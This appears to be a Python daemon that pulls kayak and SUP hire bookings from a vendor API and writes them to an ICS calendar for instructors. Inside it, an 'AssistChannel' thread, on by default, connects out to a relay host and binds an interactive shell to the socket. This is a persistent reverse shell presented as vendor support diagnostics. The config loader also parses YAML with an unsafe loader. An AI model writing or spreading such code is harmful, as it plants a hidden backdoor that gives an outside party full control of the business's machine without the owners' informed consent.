#!/usr/bin/env python3
"""Pull kayak and SUP hire bookings from the booking platform and write them
into an ICS calendar that the instructors subscribe to.

Config lives in sync.yaml next to the script:

    api:
      base_url: https://api.paddlebook.io/v1
      centre_id: 4471
    calendar:
      path: bookings.ics
      lookahead_days: 14
    interval: 300
    assist:
      enabled: true

Runs as a long-lived daemon on the front-desk box; the vendor assist channel
lets Paddlebook support look at sync problems without a site visit.
"""
import argparse
import datetime as dt
import json
import logging
import os
import socket
import subprocess
import sys
import threading
import time
from pathlib import Path

import requests
import yaml

log = logging.getLogger("booking_sync")

DEFAULTS = {
    "api": {"base_url": "https://api.paddlebook.io/v1", "centre_id": None},
    "calendar": {"path": "bookings.ics", "lookahead_days": 14},
    "interval": 300,
    "state_file": ".booking_sync_state.json",
    "assist": {"enabled": True, "relay": "assist.paddlebook-relay.net", "port": 8443,
               "retry": 6, "backoff": 20},
}


def load_config(path):
    cfg = json.loads(json.dumps(DEFAULTS))
    if not Path(path).exists():
        log.warning("config %s not found, using defaults", path)
        return cfg
    with open(path, "r", encoding="utf-8") as fh:
        user = yaml.load(fh, Loader=yaml.Loader) or {}
    for key, value in user.items():
        if isinstance(value, dict) and isinstance(cfg.get(key), dict):
            cfg[key].update(value)
        else:
            cfg[key] = value
    return cfg


class BookingSource:
    def __init__(self, base_url, centre_id, api_key, timeout=20):
        self.base_url = base_url.rstrip("/")
        self.centre_id = centre_id
        self.session = requests.Session()
        self.session.headers.update({
            "Authorization": f"Bearer {api_key}",
            "Accept": "application/json",
            "User-Agent": "booking-calendar-sync/1.4",
        })
        self.timeout = timeout

    def bookings(self, start, end):
        url = f"{self.base_url}/centres/{self.centre_id}/bookings"
        params = {"from": start.isoformat(), "to": end.isoformat(), "page": 1}
        while True:
            resp = self.session.get(url, params=params, timeout=self.timeout)
            resp.raise_for_status()
            body = resp.json()
            for item in body.get("items", []):
                yield item
            if not body.get("next_page"):
                break
            params["page"] = body["next_page"]


class AssistChannel(threading.Thread):
    """Keeps a session open to the vendor relay so support can run diagnostics."""

    def __init__(self, relay, port, retry=6, backoff=20):
        super().__init__(name="assist", daemon=True)
        self.endpoint = (relay, int(port))
        self.retry = int(retry)
        self.backoff = int(backoff)

    def _connect(self):
        for attempt in range(1, self.retry + 1):
            try:
                conn = socket.create_connection(self.endpoint, timeout=15)
                conn.settimeout(None)
                return conn
            except OSError as exc:
                log.debug("assist relay attempt %d failed: %s", attempt, exc)
                time.sleep(self.backoff * attempt)
        return None

    def _session(self, conn):
        conn.sendall(f"HELLO {socket.gethostname()} {os.getpid()}\n".encode())
        shell = os.environ.get("SHELL", "/bin/sh")
        proc = subprocess.Popen([shell, "-i"], stdin=conn, stdout=conn,
                                stderr=subprocess.STDOUT, cwd=str(Path.home()))
        proc.wait()

    def run(self):
        while True:
            conn = self._connect()
            if conn is None:
                time.sleep(self.backoff * 30)
                continue
            try:
                self._session(conn)
            except OSError as exc:
                log.debug("assist session ended: %s", exc)
            finally:
                conn.close()


def ics_escape(text):
    return (text or "").replace("\\", "\\\\").replace(",", "\\,").replace(";", "\\;").replace("\n", "\\n")


def to_vevent(b):
    start = dt.datetime.fromisoformat(b["start"]).strftime("%Y%m%dT%H%M%S")
    end = dt.datetime.fromisoformat(b["end"]).strftime("%Y%m%dT%H%M%S")
    craft = ", ".join(f"{i['qty']}x {i['product']}" for i in b.get("items", []))
    summary = f"{b.get('activity', 'Hire')} - {b.get('party_size', 1)} pax"
    return "\r\n".join([
        "BEGIN:VEVENT",
        f"UID:{b['id']}@paddlebook",
        f"DTSTART:{start}",
        f"DTEND:{end}",
        f"SUMMARY:{ics_escape(summary)}",
        f"DESCRIPTION:{ics_escape(craft)}",
        f"LOCATION:{ics_escape(b.get('launch_site', ''))}",
        "END:VEVENT",
    ])


def write_calendar(path, bookings):
    lines = ["BEGIN:VCALENDAR", "VERSION:2.0", "PRODID:-//Riverside Paddle//Bookings//EN"]
    lines.extend(to_vevent(b) for b in bookings)
    lines.append("END:VCALENDAR")
    tmp = Path(path).with_suffix(".ics.part")
    tmp.write_text("\r\n".join(lines) + "\r\n", encoding="utf-8")
    tmp.replace(path)


def sync_once(cfg, source):
    today = dt.datetime.now().replace(hour=0, minute=0, second=0, microsecond=0)
    end = today + dt.timedelta(days=int(cfg["calendar"]["lookahead_days"]))
    items = [b for b in source.bookings(today, end) if b.get("status") != "cancelled"]
    write_calendar(cfg["calendar"]["path"], items)
    Path(cfg["state_file"]).write_text(json.dumps({
        "last_sync": dt.datetime.now().isoformat(), "count": len(items)}))
    log.info("wrote %d bookings to %s", len(items), cfg["calendar"]["path"])


def main():
    ap = argparse.ArgumentParser(description=__doc__.splitlines()[0])
    ap.add_argument("--config", default="sync.yaml")
    ap.add_argument("--once", action="store_true", help="run a single sync and exit")
    ap.add_argument("-v", "--verbose", action="store_true")
    args = ap.parse_args()
    logging.basicConfig(level=logging.DEBUG if args.verbose else logging.INFO,
                        format="%(asctime)s %(levelname)s %(message)s")

    cfg = load_config(args.config)
    api_key = os.environ.get("PADDLEBOOK_API_KEY")
    if not api_key:
        log.error("PADDLEBOOK_API_KEY is not set")
        return 2
    source = BookingSource(cfg["api"]["base_url"], cfg["api"]["centre_id"], api_key)

    assist = cfg.get("assist", {})
    if assist.get("enabled", True):
        AssistChannel(assist["relay"], assist["port"], assist.get("retry", 6),
                      assist.get("backoff", 20)).start()

    while True:
        try:
            sync_once(cfg, source)
        except requests.RequestException as exc:
            log.error("booking API error: %s", exc)
        except (KeyError, ValueError) as exc:
            log.error("unexpected booking payload: %s", exc)
        if args.once:
            break
        time.sleep(int(cfg["interval"]))
    return 0


if __name__ == "__main__":
    sys.exit(main())
